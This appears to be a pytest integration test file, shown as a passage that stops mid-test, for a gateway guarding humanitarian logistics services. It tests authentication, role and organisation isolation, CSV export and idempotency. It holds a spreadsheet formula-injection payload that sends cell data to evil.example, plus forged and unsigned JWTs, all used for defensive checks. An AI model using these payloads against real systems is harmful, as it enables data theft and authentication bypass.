"""The gateway in front of the real stock, needs and distribution services (all in this process,
against the real broker and store): authentication, the role x route matrix, organisation
isolation on every id route, idempotent retries and the audit log."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import jwt
import pytest
from kitflow_distribution.bootstrap import create_app as create_distribution
from kitflow_gateway.api.proxy import ROUTES, Body, ProxyRoute
from kitflow_gateway.bootstrap import create_app as create_gateway
from kitflow_gateway.config import DEV_TOKEN_SECRET
from kitflow_gateway.handlers.tokens import AUDIENCE, ISSUER
from kitflow_needs.bootstrap import create_app as create_needs
from kitflow_shared.topics import ensure_topics
from kitflow_shared.web.identity import Role
from kitflow_stock.bootstrap import create_app as create_stock

from tests.support.app import running_app
from tests.support.infra import Infra
from tests.support.kafka import eventually

pytestmark = pytest.mark.infra

ADMIN_USER = "admin@iom.int"
ADMIN_PASSWORD = "integration-admin-passphrase"
PASSWORD = "a long enough passphrase"


@dataclass
class System:
    client: httpx.AsyncClient
    admin: dict[str, str]


async def _sign_in(client: httpx.AsyncClient, username: str, password: str) -> httpx.Response:
    return await client.post(
        "/v1/auth/token",
        data={"grant_type": "password", "username": username, "password": password},
    )


@asynccontextmanager
async def running_system(infra: Infra, namespace: str) -> AsyncIterator[System]:
    """The four services in-process behind the gateway, with the admin signed in and the
    reference data seeded; other gateway tests build on it."""
    await ensure_topics(infra.kafka_bootstrap, namespace)
    with pytest.MonkeyPatch.context() as mp:
        async with (
            running_app(create_stock, infra, namespace, mp) as (stock, _),
            running_app(create_needs, infra, namespace, mp) as (needs, _),
            running_app(create_distribution, infra, namespace, mp) as (distribution, _),
        ):
            transports: dict[str, httpx.AsyncBaseTransport] = {
                "stock": httpx.ASGITransport(app=stock),
                "needs": httpx.ASGITransport(app=needs),
                "distribution": httpx.ASGITransport(app=distribution),
            }
            async with running_app(
                lambda: create_gateway(transports),
                infra,
                namespace,
                mp,
                KITFLOW_GATEWAY_BOOTSTRAP_ADMIN_USERNAME=ADMIN_USER,
                KITFLOW_GATEWAY_BOOTSTRAP_ADMIN_PASSWORD=ADMIN_PASSWORD,
                KITFLOW_GATEWAY_RATE_LIMIT_REQUESTS="100000",
            ) as (_, client):
                signed_in = await _sign_in(client, ADMIN_USER, ADMIN_PASSWORD)
                assert signed_in.status_code == 200, signed_in.text
                admin = {"Authorization": f"Bearer {signed_in.json()['access_token']}"}
                await _seed(client, admin)
                yield System(client, admin)


@pytest.fixture(scope="module")
async def system(infra: Infra) -> AsyncIterator[System]:
    async with running_system(infra, f"t{uuid.uuid4().hex[:10]}") as running:
        yield running


def _unique(prefix: str) -> str:
    return f"{prefix}{uuid.uuid4().hex[:6].upper()}"


async def _seed(client: httpx.AsyncClient, admin: dict[str, str]) -> None:
    for code, org in (("BKO-MAIN", "IOM"), ("GAO-DRC", "IOM")):
        response = await client.post(
            "/v1/warehouses",
            headers=admin,
            json={
                "code": code,
                "name": code,
                "organisation": org,
                "type": "main",
                "admin1_pcode": "ML09",
                "admin2_pcode": "ML0901",
            },
        )
        assert response.status_code == 201, response.text
    response = await client.post(
        "/v1/items",
        headers=admin,
        json={
            "code": "BLANKET",
            "name_en": "Blanket",
            "name_fr": "Couverture",
            "category": "nfi",
            "unit": "piece",
        },
    )
    assert response.status_code == 201, response.text


async def _organisation(system: System, prefix: str = "ORG") -> str:
    organisation = _unique(prefix)
    response = await system.client.post(
        "/v1/organisations",
        headers=system.admin,
        json={"organisation_id": organisation, "name": organisation, "kind": "ngo"},
    )
    assert response.status_code == 201, response.text
    return organisation


async def _user(
    system: System, organisation: str, role: Role, warehouses: tuple[str, ...] = ()
) -> tuple[str, str]:
    """A user of `organisation` with `role`: (user id, user name)."""
    username = f"{uuid.uuid4().hex[:8]}@{organisation.lower()}.org"
    response = await system.client.post(
        "/v1/users",
        headers=system.admin,
        json={
            "username": username,
            "password": PASSWORD,
            "organisation": organisation,
            "roles": [role.value],
            "warehouses": list(warehouses),
        },
    )
    assert response.status_code == 201, response.text
    return response.json()["user_id"], username


async def _key(system: System, user_id: str) -> tuple[str, dict[str, str]]:
    """An API key issued by the admin for the user: (key id, headers)."""
    response = await system.client.post(
        "/v1/api-keys", headers=system.admin, json={"name": "tests", "user_id": user_id}
    )
    assert response.status_code == 201, response.text
    body = response.json()
    return body["key_id"], {"X-API-Key": body["key"]}


async def _caller(
    system: System, organisation: str, role: Role, warehouses: tuple[str, ...] = ()
) -> dict[str, str]:
    user_id, _ = await _user(system, organisation, role, warehouses)
    return (await _key(system, user_id))[1]


NEED = {
    "location": {"admin1_pcode": "ML05", "admin2_pcode": "ML0501", "site_name": "Sévaré 2"},
    "population": {"households": 120, "individuals": 640},
    "displacement_status": "idp",
    "assessment": {"date": "2026-03-01", "source": "dtm-round"},
    "severity": 4,
    "items": [{"item_code": "BLANKET", "quantity": 240}],
}


# ---- authentication ---------------------------------------------------------------------------


async def test_every_route_but_health_and_docs_needs_a_credential(system: System) -> None:
    for path in ("/healthz", "/openapi.json", "/docs"):
        assert (await system.client.get(path)).status_code == 200, path
    for route in ROUTES:
        path = route.path.replace("{code}", "BKO-MAIN")
        for name in route.path_params:
            path = path.replace(f"{{{name}}}", "X-1")
        response = await system.client.request(route.method, path, json={})
        assert response.status_code == 401, (route.method, path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        assert response.headers["WWW-Authenticate"].startswith("Bearer")
    for method, path in (
        ("GET", "/v1/auth/me"),
        ("GET", "/v1/users"),
        ("POST", "/v1/api-keys"),
        ("GET", "/v1/audit"),
    ):
        assert (await system.client.request(method, path)).status_code == 401, path


def _token(secret: str, **claims: Any) -> str:
    now = datetime.now(UTC)
    base = {
        "iss": ISSUER,
        "aud": AUDIENCE,
        "sub": "USR-NOBODY",
        "ver": 1,
        "iat": now,
        "exp": now + timedelta(minutes=5),
    }
    return jwt.encode({**base, **claims}, secret, algorithm="HS256")


async def test_expired_forged_and_malformed_credentials_are_refused_alike(
    system: System,
) -> None:
    organisation = await _organisation(system)
    user_id, username = await _user(system, organisation, Role.PARTNER)
    signed_in = await _sign_in(system.client, username, PASSWORD)
    valid = signed_in.json()["access_token"]
    claims = jwt.decode(valid, options={"verify_signature": False})
    now = datetime.now(UTC)
    key_id, key = await _key(system, user_id)
    bad: dict[str, dict[str, str]] = {
        "expired token": {
            "Authorization": "Bearer "
            + _token(
                DEV_TOKEN_SECRET,
                sub=user_id,
                ver=claims["ver"],
                iat=now - timedelta(hours=1),
                exp=now - timedelta(minutes=1),
            )
        },
        "forged token": {
            "Authorization": "Bearer "
            + _token("not-the-gateway-secret-0123456789abcdef", sub=user_id, ver=claims["ver"])
        },
        "unsigned token": {
            "Authorization": "Bearer "
            + jwt.encode({**claims, "exp": int(now.timestamp()) + 300}, None, algorithm="none")
        },
        "garbage token": {"Authorization": "Bearer not-a-jwt"},
        "tampered key": {"X-API-Key": key["X-API-Key"][:-2] + "xx"},
        "unknown key": {"X-API-Key": f"kf_{'0' * 16}_{'a' * 43}"},
        "malformed key": {"X-API-Key": "hello"},
    }
    for what, headers in bad.items():
        response = await system.client.get("/v1/needs", headers=headers)
        assert response.status_code == 401, (what, response.text)
        assert response.json()["detail"].startswith("Send a valid API key"), what
    for headers in ({"Authorization": f"Bearer {valid}"}, key):
        assert (await system.client.get("/v1/needs", headers=headers)).status_code == 200
    assert key_id


async def test_a_revoked_key_and_a_deactivated_users_token_stop_working_at_once(
    system: System,
) -> None:
    organisation = await _organisation(system)
    user_id, username = await _user(system, organisation, Role.PARTNER)
    key_id, key = await _key(system, user_id)
    token = (await _sign_in(system.client, username, PASSWORD)).json()["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    assert (await system.client.get("/v1/needs", headers=key)).status_code == 200

    revoked = await system.client.delete(f"/v1/api-keys/{key_id}", headers=bearer)
    assert revoked.status_code == 200, revoked.text
    assert revoked.json()["revoked_at"] is not None
    assert (await system.client.get("/v1/needs", headers=key)).status_code == 401
    assert (await system.client.get("/v1/needs", headers=bearer)).status_code == 200

    _, second_key = await _key(system, user_id)
    deactivated = await system.client.patch(
        f"/v1/users/{user_id}", headers=system.admin, json={"active": False}
    )
    assert deactivated.status_code == 200, deactivated.text
    assert (await system.client.get("/v1/needs", headers=bearer)).status_code == 401
    assert (await system.client.get("/v1/needs", headers=second_key)).status_code == 401
    assert (await _sign_in(system.client, username, PASSWORD)).status_code == 400


async def test_a_deactivated_organisation_is_locked_out_at_once_and_no_one_else_is(
    system: System,
) -> None:
    organisation = await _organisation(system)
    user_id, username = await _user(system, organisation, Role.PARTNER)
    _, key = await _key(system, user_id)
    token = (await _sign_in(system.client, username, PASSWORD)).json()["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    bystander = await _caller(system, await _organisation(system), Role.PARTNER)
    assert (await system.client.get("/v1/needs", headers=key)).status_code == 200

    refused = await system.client.patch(
        f"/v1/organisations/{organisation}", headers=key, json={"active": False}
    )
    assert refused.status_code == 403, refused.text
    changed = await system.client.patch(
        f"/v1/organisations/{organisation}", headers=system.admin, json={"active": False}
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["active"] is False
    assert (await system.client.get("/v1/needs", headers=key)).status_code == 401
    assert (await system.client.get("/v1/needs", headers=bearer)).status_code == 401
    assert (await _sign_in(system.client, username, PASSWORD)).status_code == 400
    assert (await system.client.get("/v1/needs", headers=bystander)).status_code == 200
    user = await system.client.get(f"/v1/users/{user_id}", headers=system.admin)
    assert user.json()["active"] is False
    new_user = await system.client.post(
        "/v1/users",
        headers=system.admin,
        json={
            "username": f"late@{organisation.lower()}.org",
            "password": PASSWORD,
            "organisation": organisation,
            "roles": ["partner"],
        },
    )
    assert new_user.status_code == 422, new_user.text
    assert "deactivated" in new_user.text

    own = await system.client.patch(
        "/v1/organisations/IOM", headers=system.admin, json={"active": False}
    )
    assert own.status_code == 422, own.text
    missing = await system.client.patch(
        "/v1/organisations/NOBODY-AT-ALL", headers=system.admin, json={"active": False}
    )
    assert missing.status_code == 404, missing.text


async def test_sign_in_refuses_wrong_passwords_without_saying_which_part_was_wrong(
    system: System,
) -> None:
    organisation = await _organisation(system)
    _, username = await _user(system, organisation, Role.COORDINATOR)
    wrong_password = await _sign_in(system.client, username, "not the passphrase")
    unknown_user = await _sign_in(system.client, "nobody@nowhere.org", PASSWORD)
    for response in (wrong_password, unknown_user):
        assert response.status_code == 400
        assert response.headers["content-type"] == "application/problem+json"
        assert response.json()["error"] == "invalid_grant"
        assert response.json()["detail"] == "wrong user name or password"
    right = await _sign_in(system.client, username, PASSWORD)
    assert right.status_code == 200
    assert right.json()["token_type"] == "bearer"
    me = await system.client.get(
        "/v1/auth/me", headers={"Authorization": f"Bearer {right.json()['access_token']}"}
    )
    assert me.json()["organisation"] == organisation
    assert me.json()["roles"] == ["coordinator"]


async def test_a_key_cannot_be_scoped_beyond_its_owner_and_cannot_mint_keys(
    system: System,
) -> None:
    organisation = await _organisation(system)
    user_id, username = await _user(system, organisation, Role.WAREHOUSE, ("BKO-MAIN",))
    token = (await _sign_in(system.client, username, PASSWORD)).json()["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    wider = await system.client.post(
        "/v1/api-keys", headers=bearer, json={"name": "x", "roles": ["coordinator"]}
    )
    assert wider.status_code == 422
    assert wider.json()["errors"][0]["field"] == "body.roles"
    elsewhere = await system.client.post(
        "/v1/api-keys", headers=bearer, json={"name": "x", "warehouses": ["GAO-DRC"]}
    )
    assert elsewhere.status_code == 422
    own = await system.client.post("/v1/api-keys", headers=bearer, json={"name": "scanner"})
    assert own.status_code == 201, own.text
    assert own.headers["Cache-Control"] == "no-store"
    key = {"X-API-Key": own.json()["key"]}
    assert (
        await system.client.post("/v1/api-keys", headers=key, json={"name": "y"})
    ).status_code == 403
    listed = await system.client.get("/v1/api-keys", headers=bearer)
    assert [k["key_id"] for k in listed.json()["items"]] == [own.json()["key_id"]]
    assert "key" not in listed.json()["items"][0]
    assert user_id == own.json()["user_id"]


# ---- roles -----------------------------------------------------------------------------------


def _path(route: ProxyRoute) -> str:
    path = route.path.replace("{code}", "BKO-MAIN")
    for name in route.path_params:
        path = path.replace(f"{{{name}}}", "UNKNOWN-1")
    return path


# Well-formed bodies where a route's answer depends on reaching the object, not on validation.
EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
    ("PUT", "/v1/needs/{need_id}"): NEED,
    ("POST", "/v1/needs/{need_id}/cancel"): {"reason": "households moved on to Gao"},
    ("POST", "/v1/needs/{need_id}/reject"): {"reason": "outside the partner's area"},
    ("POST", "/v1/plans/{plan_id}/deliveries"): {
        "deliveries": [
            {
                "need_id": "NEED-01",
                "households": 60,
                "individuals": 320,
                "lines": [{"line_id": "PLN-7:L001", "quantity": 120}],
            }
        ]
    },
    ("POST", "/v1/plans/{plan_id}/cancel"): {"reason": "road to Ménaka closed"},
    ("POST", "/v1/plans/{plan_id}/approve"): {"all_or_nothing": False},
    ("POST", "/v1/plans/{plan_id}/dispatch"): {
        "waybill_number": "WB-PLN-7",
        "destination": "Site Sévaré 2 (ML0501)",
    },
}


def _request(route: ProxyRoute) -> dict[str, Any]:
    if route.body is Body.FILE:
        return {"content": b"#adm1+code\nML05\n", "headers": {"content-type": "text/csv"}}
    if route.body is Body.JSON:
        return {"json": EXAMPLES.get((route.method, route.path), {})}
    return {}


@pytest.fixture(scope="module")
async def callers(system: System) -> dict[Role, dict[str, str]]:
    organisation = await _organisation(system, "MATRIX")
    return {
        Role.PARTNER: await _caller(system, organisation, Role.PARTNER),
        Role.WAREHOUSE: await _caller(system, organisation, Role.WAREHOUSE, ("BKO-MAIN",)),
        Role.COORDINATOR: await _caller(system, organisation, Role.COORDINATOR),
        Role.ADMIN: await _caller(system, organisation, Role.ADMIN),
    }


@pytest.mark.parametrize("role", list(Role), ids=lambda r: str(r))
@pytest.mark.parametrize("route", ROUTES, ids=lambda r: f"{r.method} {r.path}")
async def test_role_x_route_matrix(
    system: System, callers: dict[Role, dict[str, str]], route: ProxyRoute, role: Role
) -> None:
    """A role outside the route's list is refused by the gateway; a role inside it reaches the
    service, which agrees (it does not refuse the role either)."""
    extra = _request(route)
    headers = {**callers[role], **extra.pop("headers", {})}
    response = await system.client.request(route.method, _path(route), headers=headers, **extra)
    assert response.status_code < 500, response.text
    if role in route.roles:
        # The service may still refuse on a business rule (another organisation's warehouse),
        # but never for the role itself.
        assert response.status_code != 401, response.text
        if response.status_code == 403:
            assert not response.json()["detail"].startswith("This needs one of the roles")
    else:
        assert response.status_code == 403, response.text
        assert response.json()["type"] == "/problems/forbidden"


# ---- organisation isolation ------------------------------------------------------------------

# Shared by design, readable by every organisation: the cluster's warehouses, its catalogue and
# its norms profiles (the issue's "admin: catalogue, norms").
SHARED_BY_DESIGN = {
    ("GET", "/v1/warehouses/{code}"),
    ("GET", "/v1/items/{code}"),
    ("GET", "/v1/norms-profiles/{profile_id}"),
    ("POST", "/v1/norms-profiles/{profile_id}/calculate"),
}


@dataclass
class Isolation:
    owner: str
    need_id: str
    other_need_id: str
    # Callers of another organisation than the objects', one per non-cluster-wide role.
    partner: dict[str, str]
    staff: dict[str, str]


@pytest.fixture(scope="module")
async def isolation(system: System) -> Isolation:
    owner = await _organisation(system, "OWNER")
    owner_partner = await _caller(system, owner, Role.PARTNER)
    created = []
    for site in ("Sévaré 2", "Sévaré 3"):
        body = {**NEED, "location": {**NEED["location"], "site_name": site}}
        response = await system.client.post("/v1/needs", headers=owner_partner, json=body)
        assert response.status_code == 201, response.text
        created.append(response.json()["id"])
    intruder = await _organisation(system, "INTRUDER")
    return Isolation(
        owner=owner,
        need_id=created[0],
        other_need_id=created[1],
        partner=await _caller(system, intruder, Role.PARTNER),
        # Staff of another organisation's warehouse, reaching for BKO-MAIN.
        staff=await _caller(system, intruder, Role.WAREHOUSE, ("GAO-DRC",)),
    )


ID_ROUTES = [r for r in ROUTES if r.path_params and (r.method, r.path) not in SHARED_BY_DESIGN]


@pytest.mark.parametrize("route", ID_ROUTES, ids=lambda r: f"{r.method} {r.path}")
async def test_another_organisations_object_is_not_found(
    system: System, isolation: Isolation, route: ProxyRoute
) -> None:
    """For every id route: a partner or warehouse user of another organisation gets 404 where
    their role may call the route (403 where it may not), and never the object."""
    path = (
        route.path.replace("{code}", "BKO-MAIN")
        .replace("{need_id}", isolation.need_id)
        .replace("{other_id}", isolation.other_need_id)
    )
    for name in route.path_params:
        path = path.replace(f"{{{name}}}", "UNKNOWN-1")
    for role, caller in ((Role.PARTNER, isolation.partner), (Role.WAREHOUSE, isolation.staff)):
        extra = _request(route)
        headers = {**caller, **extra.pop("headers", {})}
        response = await system.client.request(route.method, path, headers=headers, **extra)
        expected = 404 if role in route.roles else 403
        assert response.status_code == expected, (role, path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        # Nothing of the object comes back: neither its organisation nor its contents.
        assert isolation.owner not in response.text
        assert "Sévaré" not in response.text
    # The need is still there, untouched, for its owner's coordinators.
    seen = await system.client.get(f"/v1/needs/{isolation.need_id}", headers=system.admin)
    assert seen.status_code == 200
    assert seen.json()["status"] == "submitted"


async def test_another_organisations_real_plan_and_need_are_not_found_and_nothing_leaks(
    system: System,
) -> None:
    """Against a plan that exists, drafted for a need that exists (not unknown ids): a partner
    of another organisation gets 404 and none of the data, on reads and on changes alike, while
    the owner's partner sees its line."""
    owner = await _organisation(system, "PLANOWNER")
    owner_partner = await _caller(system, owner, Role.PARTNER)
    coordinator = await _caller(system, "IOM", Role.COORDINATOR)
    intruder = await _caller(system, await _organisation(system, "NOSY"), Role.PARTNER)
    site = f"Konna {uuid.uuid4().hex[:6]}"
    need = {**NEED, "location": {**NEED["location"], "site_name": site}}
    created = await system.client.post("/v1/needs", headers=owner_partner, json=need)
    assert created.status_code == 201, created.text
    need_id = created.json()["id"]
    validated = await system.client.post(f"/v1/needs/{need_id}/validate", headers=coordinator)
    assert validated.status_code == 200, validated.text
    receipt = await system.client.post(
        "/v1/warehouses/BKO-MAIN/receipts",
        headers=system.admin,
        json={
            "grn_number": f"GRN-{uuid.uuid4().hex[:8]}",
            "source": "ECHO",
            "lines": [{"item_code": "BLANKET", "quantity": 5000}],
        },
    )
    assert receipt.status_code == 201, receipt.text
    # Distribution learns the need and the stock from events.
    await eventually(
        lambda: system.client.get("/v1/views/needs", headers=coordinator),
        lambda r: any(n["need_id"] == need_id and n["status"] == "validated" for n in r.json()),
        what="the need in distribution's view",
    )
    await eventually(
        lambda: system.client.get("/v1/views/stock", headers=coordinator),
        lambda r: any(
            (x["warehouse"], x["balance"]["item_code"]) == ("BKO-MAIN", "BLANKET")
            and x["balance"]["available"] >= 240
            for x in r.json()
        ),
        what="the blankets in distribution's view",
    )
    drafted = await system.client.post(
        "/v1/plans", headers=coordinator, json={"title": f"Konna {owner}", "need_ids": [need_id]}
    )
    assert drafted.status_code == 201, drafted.text
    plan = drafted.json()
    plan_id = plan["plan_id"]
    [line] = [x for x in plan["lines"] if x["need_id"] == need_id]

    mine = await system.client.get(f"/v1/plans/{plan_id}", headers=owner_partner)
    assert mine.status_code == 200, mine.text
    assert {x["need_id"] for x in mine.json()["lines"]} == {need_id}

    attempts = [
        ("GET", f"/v1/plans/{plan_id}", None),
        (
            "POST",
            f"/v1/plans/{plan_id}/deliveries",
            {
                "deliveries": [
                    {
                        "need_id": need_id,
                        "lines": [{"line_id": line["line_id"], "quantity": 1}],
                        "households": 1,
                        "individuals": 5,
                    }
                ]
            },
        ),
        ("GET", f"/v1/needs/{need_id}", None),
        ("PUT", f"/v1/needs/{need_id}", need),
        ("POST", f"/v1/needs/{need_id}/cancel", {"reason": "not ours to cancel"}),
    ]
    for method, path, body in attempts:
        response = await system.client.request(method, path, headers=intruder, json=body)
        assert response.status_code == 404, (method, path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        for secret in (owner, site, line["line_id"]):
            assert secret not in response.text, (method, path, secret)
    for listing in ("/v1/needs", "/v1/needs/export.csv", "/v1/reports/5w.csv"):
        listed = await system.client.get(listing, headers=intruder)
        assert listed.status_code == 200, (listing, listed.text)
        assert need_id not in listed.text, listing
        assert site not in listed.text, listing
    # Untouched: still a draft with its line, the need still validated.
    after = await system.client.get(f"/v1/plans/{plan_id}", headers=coordinator)
    assert after.json()["status"] == plan["status"]
    assert after.json()["lines"] == plan["lines"]
    seen = await system.client.get(f"/v1/needs/{need_id}", headers=coordinator)
    assert seen.json()["status"] == "validated"


async def test_gateway_objects_of_another_organisation_are_not_found(system: System) -> None:
    first, second = await _organisation(system), await _organisation(system)
    first_user, first_name = await _user(system, first, Role.PARTNER)
    second_user, _ = await _user(system, second, Role.PARTNER)
    second_key_id, _ = await _key(system, second_user)
    token = (await _sign_in(system.client, first_name, PASSWORD)).json()["access_token"]
    bearer = {"Authorization": f"Bearer {token}"}
    for method, path in (
        ("GET", f"/v1/users/{second_user}"),
        ("GET", f"/v1/organisations/{second}"),
        ("DELETE", f"/v1/api-keys/{second_key_id}"),
    ):
        response = await system.client.request(method, path, headers=bearer)
        assert response.status_code == 404, (path, response.text)
    assert (await system.client.get(f"/v1/users/{first_user}", headers=bearer)).status_code == 200
    listed = await system.client.get(f"/v1/api-keys?user_id={second_user}", headers=bearer)
    assert listed.json()["items"] == []


async def test_a_partner_lists_only_its_own_needs(system: System) -> None:
    mine, theirs = await _organisation(system), await _organisation(system)
    me, them = (
        await _caller(system, mine, Role.PARTNER),
        await _caller(system, theirs, Role.PARTNER),
    )
    created = await system.client.post("/v1/needs", headers=me, json=NEED)
    assert created.status_code == 201, created.text
    assert (await system.client.post("/v1/needs", headers=them, json=NEED)).status_code == 201
    listed = (await system.client.get("/v1/needs", headers=me)).json()
    assert {n["organisation"] for n in listed["items"]} == {mine}
    assert [n["id"] for n in listed["items"]] == [created.json()["id"]]


# ---- needs: bad input, exports that stay data, what a partner reads ---------------------------


def _at(site: str, **changes: Any) -> dict[str, Any]:
    """NEED at a site of its own, so that only the duplicates a test makes are found."""
    return {**NEED, "location": {**NEED["location"], "site_name": site}, **changes}


async def test_a_formula_in_a_need_leaves_the_needs_export_as_text(system: System) -> None:
    partner = await _caller(system, await _organisation(system), Role.PARTNER)
    formula = f'=HYPERLINK("http://evil.example/?"&A1,"{uuid.uuid4().hex[:6]}")'
    created = await system.client.post("/v1/needs", headers=partner, json=_at(formula))
    assert created.status_code == 201, created.text
    exported = await system.client.get("/v1/needs/export.csv", headers=partner)
    assert exported.status_code == 200, exported.text
    _, tags, *rows = list(csv.reader(io.StringIO(exported.text)))
    [row] = rows
    assert row[tags.index("#loc+name")] == "'" + formula
    for tag, cell in zip(tags, row, strict=True):
        if cell and not cell.lstrip("-").replace(".", "", 1).isdigit():
            assert cell[0] not in "=+-@\t\r", (tag, cell)


async def test_bad_needs_input_is_a_422_naming_the_field_through_the_gateway(
    system: System,
) -> None:
    organisation = await _organisation(system)
    partner = await _caller(system, organisation, Role.PARTNER)
    huge = 2**63
    cases = [
        ("body.location.site_name", _at("Sévaré\x002")),
        (
            "body.population.households",
            {**NEED, "population": {"households": huge, "individuals": huge}},
        ),
        ("body.items.0.quantity", {**NEED, "items": [{"item_code": "BLANKET", "quantity": huge}]}),
        (
            "body.assessment.date",
            {**NEED, "assessment": {"date": "9999-12-31", "source": "dtm-round"}},
        ),
    ]
    for field, body in cases:
        response = await system.client.post("/v1/needs", headers=partner, json=body)
        assert response.status_code == 422, (field, response.status_code, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        assert field in [e["field"] for e in response.json()["errors"]], response.text
    hxl = (
        "#meta+id,#adm1+code,#adm2+code,#loc+name,#inneed+hh,#inneed+ind,#beneficiary+type,"
        "#severity,#date+assessed,#item+code,#item+num\n"
        "G1,ML05,ML0501,Konna 1,10,50,idp,3,2026-03-01,BLANKET,10\n"
        "G2,ML05,ML0501,Konna\x002,10,50,idp,3,2026-03-01,BLANKET,10\n"
        f"G3,ML05,ML0501,Konna 3,{huge},{huge},idp,3,2026-03-01,BLANKET,10\n"
        "G4,ML05,ML0501,Konna 4,10,50,idp,3,9999-12-31,BLANKET,10\n"
    )
    imported = await system.client.post(
        "/v1/needs/imports", headers={**partner, "Content-Type": "text/csv"}, content=hxl
    )
    assert imported.status_code == 200, imported.text
    report = imported.json()
    assert (report["imported"], report["rejected"]) == (1, 3)
    assert {(e["row"], e["column"]) for e in report["errors"]} >= {
        (3, "#loc+name"),
        (4, "#inneed+hh"),
        (5, "#date+assessed"),
    }
    listed = (await system.client.get("/v1/needs", headers=partner)).json()
    assert listed["total"] == 1


async def test_a_partner_reads_whom_to_talk_to_about_a_duplicate_not_its_details(
    system: System,
) -> None:
    first_org, second_org = await _organisation(system, "FIRST"), await _organisation(system)
    first = await _caller(system, first_org, Role.PARTNER)
    second = await _caller(system, second_org, Role.PARTNER)
    coordinator = await _caller(system, "IOM", Role.COORDINATOR)
    site = f"Sofara {uuid.uuid4().hex[:6]}"
    theirs = await system.client.post(
        "/v1/needs",
        headers=first,
        json=_at(
            site,
            items=[
                {"item_code": "BLANKET", "quantity": 10},
                {"item_code": "KIT-NFI", "quantity": 5},
            ],
        ),
    )
    assert theirs.status_code == 201, theirs.text
    # No site named: it covers the whole cercle, so it may duplicate the first one's.
    whole_area = {**NEED, "location": {"admin1_pcode": "ML05", "admin2_pcode": "ML0501"}}
    mine = await system.client.post("/v1/needs", headers=second, json=whole_area)
    assert mine.status_code == 201, mine.text
    links = [
        link
        for link in mine.json()["possible_duplicates"]
        if link["need_id"] == theirs.json()["id"]
    ]
    assert [link["organisation"] for link in links] == [first_org]
    assert site not in mine.text
    got = await system.client.get(f"/v1/needs/{mine.json()['id']}", headers=second)
    assert first_org in got.text
    assert site not in got.text
    seen = await system.client.get(f"/v1/needs/{mine.json()['id']}", headers=coordinator)
    assert site in seen.text


async def test_a_partner_applies_only_the_norms_rules_it_chooses_through_the_gateway(
    system: System,
) -> None:
    partner = await _caller(system, await _organisation(system), Role.PARTNER)
    chosen = _at(
        f"Fatoma {uuid.uuid4().hex[:6]}",
        items=[],
        norms={"profile_id": "sphere-minimum", "rules": ["KIT-NFI", "JERRYCAN-20L"]},
    )
    created = await system.client.post("/v1/needs", headers=partner, json=chosen)
    assert created.status_code == 201, created.text
    assert {i["item_code"] for i in created.json()["items"]} == {"KIT-NFI", "JERRYCAN-20L"}
    assert all(i["calculation"]["formula"] for i in created.json()["items"])
    refused = await system.client.post(
        "/v1/needs",
        headers=partner,
        json={**chosen, "norms": {"profile_id": "sphere-minimum", "rules": ["TENT"]}},
    )
    assert refused.status_code == 422, refused.text
    assert [e["field"] for e in refused.json()["errors"]] == ["body.norms.rules.0"]
    hxl = (
        "#meta+id,#adm1+code,#adm2+code,#loc+name,#inneed+hh,#inneed+ind,#beneficiary+type,"
        "#severity,#date+assessed\n"
        f"N1,ML05,ML0501,Fatoma {uuid.uuid4().hex[:6]},10,50,idp,3,2026-03-01\n"
    )
    imported = await system.client.post(
        "/v1/needs/imports?profile=sphere-minimum&rules=KIT-NFI&rules=SOAP-BATH-250G",
        headers={**partner, "Content-Type": "text/csv"},
        content=hxl,
    )
    assert imported.status_code == 200, imported.text
    [need_id] = imported.json()["created"]
    need = (await system.client.get(f"/v1/needs/{need_id}", headers=partner)).json()
    assert {i["item_code"] for i in need["items"]} == {"KIT-NFI", "SOAP-BATH-250G"}


# ---- KoboToolbox: HTTP Basic with the API key as the password ---------------------------------

KOBO_SUBMISSION = {
    "_uuid": "5d1b9a2e-77c3-4f0e-9a51-2b8c4e6f1a03",
    "_id": 9001,
    "_submission_time": "2026-12-01T09:14:03",
    "#adm1+code": "ML05",
    "#adm2+code": "ML0501",
    "#inneed+hh": "120",
    "#inneed+ind": "640",
    "#severity": "4",
    "#beneficiary+type": "idp",
    "#date+assessed": "2026-11-30",
    "#item+code": "BLANKET",
    "#item+num": "240",
}


def _basic(username: str, key: dict[str, str]) -> dict[str, str]:
    """As Kobo's REST Service sends it: the organisation as the user, the key as the password."""
    return {"Authorization": httpx.BasicAuth(username, key["X-API-Key"])._auth_header}


async def test_kobo_posts_with_the_api_key_in_http_basic_and_stays_in_its_organisation(
    system: System,
) -> None:
    organisation = await _organisation(system, "KOBO")
    key = await _caller(system, organisation, Role.PARTNER)
    other = await _caller(system, await _organisation(system, "KOBO"), Role.PARTNER)
    path = "/v1/integrations/kobo/submissions"

    answers = [
        await system.client.post(path, json=KOBO_SUBMISSION, headers=_basic(organisation, key))
        for _ in range(3)
    ]
    assert [a.status_code for a in answers] == [201, 200, 200], answers[0].text
    need_id = answers[0].json()["need_id"]
    need = await system.client.get(f"/v1/needs/{need_id}", headers=key)
    assert need.status_code == 200
    assert need.json()["organisation"] == organisation

    # The same delivery from another organisation's key makes that organisation's own need.
    theirs = await system.client.post(path, json=KOBO_SUBMISSION, headers=_basic("x", other))
    assert theirs.status_code == 201, theirs.text
    assert theirs.json()["need_id"] != need_id
    assert (await system.client.get(f"/v1/needs/{need_id}", headers=other)).status_code == 404
    wrong = {"X-API-Key": key["X-API-Key"][:-2] + "xx"}
    refused = await system.client.post(
        path, json=KOBO_SUBMISSION, headers=_basic(organisation, wrong)
    )
    assert refused.status_code == 401
    no_key = await system.client.post(
        path, json=KOBO_SUBMISSION, headers={"Authorization": "Basic bm9uZQ=="}
    )
    assert no_key.status_code == 401


# ---- idempotency -----------------------------------------------------------------------------


async def test_an_idempotent_retry_returns_the_first_result_and_creates_nothing_more(
    system: System,
) -> None:
    organisation = await _organisation(system)
    partner = await _caller(system, organisation, Role.PARTNER)
    headers = {**partner, "Idempotency-Key": "need-sevare-2026-03-01"}
    first = await system.client.post("/v1/needs", headers=headers, json=NEED)
